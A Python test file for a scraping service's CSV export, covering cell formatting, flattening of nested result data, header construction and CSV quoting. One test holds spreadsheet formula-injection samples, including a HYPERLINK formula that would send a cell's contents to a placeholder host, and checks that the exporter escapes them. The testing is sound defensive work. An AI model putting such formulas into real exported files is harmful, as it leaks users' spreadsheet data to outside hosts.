"""CSV export: the header fixed from the job's spec and the first page, rows flattened."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from scrapejobs_dispatcher.jobs.result_export import (
    RESULT_COLUMNS,
    cell,
    csv_columns,
    csv_row,
    flatten_data,
)
from scrapejobs_shared.domain.jobspec import JobRequest, JobSpec
from scrapejobs_shared.domain.records import JobRecord
from scrapejobs_shared.domain.statuses import JobStatus

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def _job(**body: object) -> JobRecord:
    spec = JobSpec.from_request(JobRequest.model_validate({"url": "http://a.example/", **body}))
    return JobRecord("j", JobStatus.COMPLETED, spec, NOW, NOW, NOW + timedelta(days=1))


def _result(data: object, **fields: object) -> dict[str, object]:
    result: dict[str, object] = {name: None for name in RESULT_COLUMNS}
    result.update(id="t1", url="http://a.example/", status="succeeded", attempts=1)
    result.update(replays=0, truncated_fields=[], data=data, **fields)
    return result


def test_cells() -> None:
    assert [cell(v) for v in (None, "a,b", True, False, 3, 1.5, [1, "x"], {"k": None})] == [
        "",
        "a,b",
        "true",
        "false",
        "3",
        "1.5",
        '[1,"x"]',
        '{"k":null}',
    ]


def test_nested_objects_flatten_with_dotted_keys_and_lists_stay_one_cell() -> None:
    data = {"a": 1, "m": {"t": "x", "d": {"e": [1, 2]}, "empty": {}}, "l": [{"n": 1}]}
    assert flatten_data(data, ()) == {
        "data.a": 1,
        "data.m.t": "x",
        "data.m.d.e": [1, 2],
        "data.m.empty": {},
        "data.l": [{"n": 1}],
    }
    assert flatten_data(data, {"data.m"})["data.m"] == data["m"]  # a column is one cell
    assert flatten_data(None, ()) == {}


def test_header_is_the_results_fields_the_spec_fields_then_the_first_page() -> None:
    job = _job(
        extract={"title": {"css": "h1"}, "price": {"css": "p"}},
        options={"formats": ["metadata", "links"]},
    )
    first = [_result({"price": 2, "metadata": {"title": "T"}, "x": {"y": 1}}), _result(None)]
    assert csv_columns(job, first) == [
        *RESULT_COLUMNS,
        "data.title",
        "data.price",
        "data.links",
        "data.metadata.title",
        "data.x.y",
        "other_data",
    ]
    assert RESULT_COLUMNS[:3] == ("id", "url", "status") and "data" not in RESULT_COLUMNS


def test_a_transform_stage_leaves_the_header_to_the_first_page() -> None:
    job = _job(
        extract={"title": {"css": "h1"}}, pipeline=[{"transform": {"rename": {"title": "name"}}}]
    )
    assert csv_columns(job, [_result({"name": "n"})])[-2:] == ["data.name", "other_data"]


def test_rows_fill_the_header_and_keep_what_has_no_column_in_other_data() -> None:
    columns = [*RESULT_COLUMNS, "data.title", "data.m.a", "other_data"]
    result = _result(
        {"title": "T", "m": {"a": 1, "b": 2}, "new": [1]},
        error="x",
        field_errors={"f": "bad"},
        fetched_at="2026-01-01T00:00:00Z",
        http_status=200,
    )
    row = dict(zip(columns, csv_row(result, columns), strict=True))
    assert row["id"] == "t1" and row["http_status"] == "200" and row["error"] == "x"
    assert row["truncated_fields"] == "[]" and row["field_errors"] == '{"f":"bad"}'
    assert row["fetched_at"] == "2026-01-01T00:00:00Z" and row["elapsed_ms"] == ""
    assert (row["data.title"], row["data.m.a"]) == ("T", "1")
    assert row["other_data"] == '{"data.m.b":2,"data.new":[1]}'
    empty = dict(zip(columns, csv_row(_result(None, status="failed"), columns), strict=True))
    assert empty["data.title"] == "" and empty["other_data"] == "" and empty["status"] == "failed"


def test_cells_survive_csv_quoting() -> None:
    columns = [*RESULT_COLUMNS, "data.t", "other_data"]
    text = 'a "quoted", multi\nline value'
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(_result({"t": text}), columns))
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[len(RESULT_COLUMNS)] == text


def test_cells_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
    columns = [*RESULT_COLUMNS, "data.t", "data.n", "other_data"]
    title = '=HYPERLINK("https://x.example/?"&A1,"click")'
    for text in (title, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        row = dict(zip(columns, csv_row(_result({"t": text, "n": -5}), columns), strict=True))
        assert row["data.t"] == "'" + text
        assert row["data.n"] == "-5"  # a number is not text a spreadsheet evaluates
    assert cell("a=b") == "a=b" and cell(" =x") == " =x"
